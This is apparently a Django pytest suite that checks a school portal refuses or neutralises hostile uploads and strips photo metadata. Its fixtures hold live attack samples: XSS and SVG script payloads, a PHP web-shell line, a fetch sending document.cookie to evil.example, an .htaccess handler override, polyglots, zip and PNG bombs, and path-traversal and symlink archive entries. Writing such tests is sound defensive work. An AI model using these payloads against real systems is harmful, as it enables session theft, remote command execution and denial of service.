"""Uploads that mean harm: acceptance cases U1, U2, U4 to U6 and U8, each with its figure."""

import io
import struct
import subprocess
import sys
import zipfile
import zlib

import pytest
from django.conf import settings as configured
from django.core.exceptions import ValidationError
from PIL import Image, ImageDraw, PngImagePlugin

from accounts.media.pictures import CARD_SIDE, PAGE_SIDE, smaller
from tests.accounts.test_media import bundle, bytes_of, checked, keep, picture, refusal, served, word
from tests.samples import sample

MEGABYTE = 1024**2

# ------------------------------------------------------------------------- U1: active contents, 0 of 132 shown

ACTIVE = {
    "html": b"<!doctype html><script>alert(1)</script>",
    "html with a mark": b"\xef\xbb\xbf<html><body onload=alert(1)>",
    "svg script": b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
    "svg onload": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "svg foreign": b"<svg><foreignObject><iframe src='javascript:alert(1)'/></foreignObject></svg>",
    "svg outside": b"<svg><image href='https://evil.example/x.png'/></svg>",
    "xhtml": b"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><script>1</script></html>",
    "xsl": b"<?xml version='1.0'?><?xml-stylesheet href='x.xsl'?><x/>",
    "mhtml": b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n<script>alert(1)</script>",
    "script": b"fetch('https://evil.example/'+document.cookie)",
    "htaccess": b"AddType application/x-httpd-php .jpg",
    "php": b"<?php system($_GET['c']); ?>",
}
NAMES = [
    "x.html", "x.svg", "x.jpg", "x.png.svg", "x.jpg.html", "x.php", "x.pdf", "x.docx", "voice.webm", ".htaccess", "x",
]  # fmt: skip


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("content", ACTIVE.values(), ids=ACTIVE)
def test_active_contents_are_refused_under_every_name(content, name):
    assert "cannot be kept" in refusal(content, name)


# ------------------------------------------------------------------------- U2: two things in one file

SCRIPT = b"<script>document.title='hacked'</script>"


@pytest.mark.parametrize("picture_format", ["JPEG", "PNG", "WEBP"])
@pytest.mark.parametrize("behind", [SCRIPT, word(), b"%PDF-1.7" + SCRIPT], ids=["html", "zip", "pdf"])
def test_what_hangs_behind_a_picture_is_gone(picture_format, behind):
    kept = bytes_of(checked(picture(picture_format) + behind))
    assert behind not in kept
    assert SCRIPT not in kept


@pytest.mark.parametrize(
    ("content", "name"),
    [(b"%PDF-1.7\n" + SCRIPT, "x.pdf"), (word() + SCRIPT, "x.docx"), (b"%PDF-1.7\n" + word(), "x.pdf")],
    ids=["pdf and html", "zip and html", "pdf and zip"],
)
def test_a_document_with_something_else_in_it_is_only_ever_saved(world, content, name):
    response = served(keep(world, content, name))
    assert response["Content-Disposition"].startswith("attachment")
    assert response["Content-Security-Policy"] == "sandbox; default-src 'none'"
    response.close()


def test_a_picture_that_is_a_program_too_is_refused():
    assert "cannot be kept" in refusal(b"GIF89a/*" + b"\0" * 40 + b"*/=1;alert(1)", "x.gif")


def test_a_sound_with_a_page_in_it_is_played_as_sound_and_nothing_else(world):
    response = served(keep(world, sample("voice.mp3") + SCRIPT, "voice.mp3"))
    assert response["Content-Type"] == "audio/mpeg"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "sandbox; default-src 'none'"
    response.close()


# ------------------------------------------------------------------------- U4 and U5: bombs, each measured


def zip_of_zeros() -> bytes:
    """Says that it holds ten gibibytes."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<xml/>")
        archive.writestr("word/document.xml", b"0" * MEGABYTE)
    content = bytearray(out.getvalue())
    at = content.rfind(b"PK\x01\x02")
    content[at + 24 : at + 28] = struct.pack("<I", 2**32 - 2)
    return bytes(content)


def long_list(entries: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for number in range(entries):
            archive.writestr(f"{number:x}", "")
    return out.getvalue()


def lying_list() -> bytes:
    """A long list whose last record says that it is short."""
    content = bytearray(long_list(150_000))
    content[-22 + 8 : -22 + 12] = struct.pack("<HH", 3, 3)
    return bytes(content)


def nested() -> bytes:
    inner = word()
    for _depth in range(6):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            for number in range(8):
                archive.writestr(f"{number}.zip", inner)
        inner = out.getvalue()
    return inner[: 15 * MEGABYTE]


def png(width: int, height: int, *chunks: bytes) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(chunk(c[:4], c[4:]) for c in chunks) + chunk(b"IEND", b"")


def animated(frames: int) -> bytes:
    out = io.BytesIO()
    first = Image.new("RGB", (8, 8), "teal")
    others = [Image.new("RGB", (8, 8), (number % 255, 0, 0)) for number in range(frames)]
    first.save(out, "PNG", save_all=True, append_images=others)
    return out.getvalue()


def linked() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        entry = zipfile.ZipInfo("word/document.xml")
        entry.external_attr = 0o120777 << 16
        archive.writestr(entry, "/etc/passwd")
    return out.getvalue()


BOMBS = {
    "ten gibibytes of zeros": zip_of_zeros,
    "a hundred thousand entries": lambda: long_list(100_000),
    "a list that lies": lying_list,
    "zips in zips": nested,
    "a link": linked,
    "out of the folder": lambda: bundle("[Content_Types].xml", "word/document.xml", "../../out"),
    "an absolute name": lambda: bundle("[Content_Types].xml", "word/document.xml", "/etc/passwd"),
    "a Windows name": lambda: bundle("[Content_Types].xml", "word/document.xml", "C:\\out.txt"),
    "65,535 squared": lambda: png(65_535, 65_535, b"IDAT" + zlib.compress(b"\0" * 100_000)),
    "178 million pixels": lambda: png(13_350, 13_350, b"IDAT" + zlib.compress(b"\0" * 100_000)),
    "a profile that swells": lambda: png(8, 8, b"iCCPx\0\0" + zlib.compress(b"\0" * 200 * MEGABYTE, 9)),
    "a text that swells": lambda: png(8, 8, b"zTXtx\0\0" + zlib.compress(b"\0" * 200 * MEGABYTE, 9)),
    "ten thousand frames": lambda: animated(10_000),
    "half a picture": lambda: picture(size=(3000, 2000))[:9000],
}


MEASURE = """
import os, sys, time
os.environ["DJANGO_SETTINGS_MODULE"] = "goals_portal.settings_test"
import django; django.setup()
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from accounts.media.uploads import check_upload
content = sys.stdin.buffer.read()
check_upload(SimpleUploadedFile("warm.png", open(sys.argv[1], "rb").read()))
def size():  # VmHWM: getrusage goes on counting from what the parent had
    return next(int(line.split()[1]) // 1024 for line in open("/proc/self/status") if line.startswith("VmHWM"))
before, begun = size(), time.process_time()
try: check_upload(SimpleUploadedFile("bomb", content)); said = "kept"
except ValidationError: said = "refused"
print(said, size() - before, round((time.process_time() - begun) * 1000))
"""


def measured(content: bytes, tmp_path) -> tuple[str, int, int]:
    """What became of it, mebibytes of memory, milliseconds of work."""
    warm = tmp_path / "warm.png"
    warm.write_bytes(picture("PNG"))
    done = subprocess.run([sys.executable, "-c", MEASURE, str(warm)], input=content, capture_output=True, check=True)
    said, memory, milliseconds = done.stdout.split()
    return said.decode(), int(memory), int(milliseconds)


CHEAPEST = ("ten gibibytes of zeros", "a list that lies", "65,535 squared")


@pytest.mark.parametrize(
    "bomb",
    [pytest.param(bomb, id=name, marks=[] if name in CHEAPEST else pytest.mark.full) for name, bomb in BOMBS.items()],
)
def test_a_bomb_is_refused_cheaply(bomb, tmp_path):
    said, memory, milliseconds = measured(bomb(), tmp_path)
    assert (said, memory < 128, milliseconds < 1000) == ("refused", True, True), (said, memory, milliseconds)


# ------------------------------------------------------------------------- U6: 0 tags in 64 files, all the right way up

BACK = {
    1: None, 2: Image.FLIP_LEFT_RIGHT, 3: Image.ROTATE_180, 4: Image.FLIP_TOP_BOTTOM, 5: Image.TRANSPOSE,
    6: Image.ROTATE_90, 7: Image.TRANSVERSE, 8: Image.ROTATE_270,
}  # fmt: skip
"""How a camera that is held that way writes an upright picture."""
XMP = b"<x:xmpmeta xmlns:x='adobe:ns:meta/'><Secret/></x:xmpmeta>"


def photo(picture_format: str, orientation: int, beside: str) -> bytes:
    """Upright it is 96 x 64 with a yellow square at the top left."""
    upright = Image.new("RGB", (96, 64), "teal")
    ImageDraw.Draw(upright).rectangle((0, 0, 31, 31), fill="yellow")
    turn = BACK[orientation]
    taken = upright if turn is None else upright.transpose(turn)
    tags = Image.Exif()
    tags[0x010F], tags[0x013B], tags[0xC65A], tags[0x0112] = "Secret Camera", "Secret Owner", 21, orientation
    tags.get_ifd(0x8825)[2] = (37.0, 48.0, 0.0)
    tags.get_ifd(0x8769)[0x927C] = b"Secret maker note"
    tags.get_ifd(0x8769)[0xA431] = "Secret serial number"
    extra = {"exif": tags}
    if beside == "xmp and a profile":
        extra |= {"xmp": XMP, "icc_profile": b"Secret profile"}
    if picture_format == "PNG":
        extra["pnginfo"] = PngImagePlugin.PngInfo()
        extra["pnginfo"].add_itxt("XML:com.adobe.xmp", XMP.decode())
    if picture_format == "JPEG" and beside != "exif":
        extra["comment"] = b"Secret comment"
    out = io.BytesIO()
    taken.save(out, picture_format, quality=95, **extra)
    return out.getvalue()


PHOTOS = {
    f"{picture_format} {orientation} {beside}": photo(picture_format, orientation, beside)
    for picture_format in ("JPEG", "PNG", "WEBP")
    for orientation in BACK
    for beside in ("exif", "xmp and a profile")
} | {f"HEIC {number}": sample(f"photo_{number}.heic") for number in BACK} | {
    f"JPEG with a thumbnail of the whole {number}": photo("JPEG", number, "xmp and a profile").replace(
        b"\xff\xda", b"\xff\xed\x00\x1aPhotoshop 3.0\x00Secret IPTC\xff\xda", 1
    )
    for number in BACK
}  # fmt: skip


def test_there_are_enough_photos():
    assert len(PHOTOS) >= 60
    assert all(b"Secret" in content for content in PHOTOS.values())


@pytest.mark.parametrize("content", PHOTOS.values(), ids=PHOTOS)
def test_a_photo_tells_nothing_but_what_is_seen(content):
    kept = bytes_of(checked(content))
    for variant in (kept, smaller(kept, PAGE_SIDE), smaller(kept, CARD_SIDE)):
        for trace in (b"Secret", b"Exif", b"adobe", b"Photoshop", b"ICC_PROFILE"):
            assert trace not in variant
        with Image.open(io.BytesIO(variant)) as found:
            assert not dict(found.getexif())
            assert found.size == (96, 64)
            red, green, blue = found.convert("RGB").getpixel((8, 8))
            assert red > 200 > 100 > blue
            assert green > 200


# ------------------------------------------------------------------------- U8: the school's room


@pytest.mark.parametrize("kind", ["picture", "audio", "video", "document"])
def test_one_byte_over_the_limit_is_one_too_many(settings, kind):
    contents = {
        "picture": picture(), "audio": sample("voice.webm"), "video": sample("clip.mov"), "document": word(),
    }  # fmt: skip
    content = contents[kind]
    settings.MEDIA_MAX_BYTES = dict.fromkeys(configured.MEDIA_MAX_BYTES, len(content))
    assert checked(content).kind == kind
    settings.MEDIA_MAX_BYTES = dict.fromkeys(configured.MEDIA_MAX_BYTES, len(content) - 1)
    assert "too big" in refusal(content)


def test_the_schools_room_is_full_for_every_child(world):
    world.school.storage_megabytes = 0
    world.school.save()
    with pytest.raises(ValidationError, match="Please tell the office"):
        keep(world)
